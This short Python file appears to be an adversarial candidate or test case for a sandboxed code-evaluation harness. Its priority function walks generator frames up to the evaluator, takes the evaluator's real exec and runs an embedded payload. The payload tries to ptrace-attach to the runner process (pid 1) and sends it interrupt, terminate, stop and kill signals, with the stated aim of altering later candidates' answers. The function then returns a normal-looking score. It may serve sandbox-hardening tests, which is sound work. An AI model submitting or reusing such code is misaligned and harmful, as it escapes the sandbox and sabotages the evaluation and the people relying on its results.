"""Beyond the issue's list: attach to the sandbox runner (pid 1, which writes every candidate's answer) with
ptrace, or stop or interrupt it, to change the answers of the candidates after this one."""

import numpy as np

PAYLOAD = """
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
attached = libc.ptrace(16, 1, 0, 0)
errno = ctypes.get_errno()
for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
    os.kill(1, sig)
raise RuntimeError("ptrace attach %d errno %d" % (attached, errno))
"""


def priority(p, d, w, t, rem, pmean, pmax):
    gens = []
    gen = (gens[0].gi_frame.f_back for _ in [0])
    gens.append(gen)
    evaluator = list(gen)[0].f_back
    evaluator.f_builtins["exec"](PAYLOAD, dict(evaluator.f_globals))
    return np.maximum(t + p, d)
